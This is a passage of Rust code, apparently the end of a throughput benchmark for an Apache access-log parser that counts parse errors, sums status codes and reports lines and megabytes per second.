            let parsed = parser.parse(line, "file:/var/log/apache2/access.log");
            errors += usize::from(parsed.error.is_some());
            checksum += u64::from(parsed.event.status_code);
        }
    }
    let elapsed = start.elapsed().as_secs_f64();
    let count = (lines.len() * rounds) as f64;
    eprintln!(
        "combined: {count} lines in {elapsed:.2}s = {:.0} lines/s, {:.0} MB/s (avg line {} bytes)",
        count / elapsed,
        (bytes * rounds) as f64 / elapsed / 1e6,
        bytes / lines.len()
    );
    assert_eq!(errors, 0);
    assert!(checksum > 0);
}
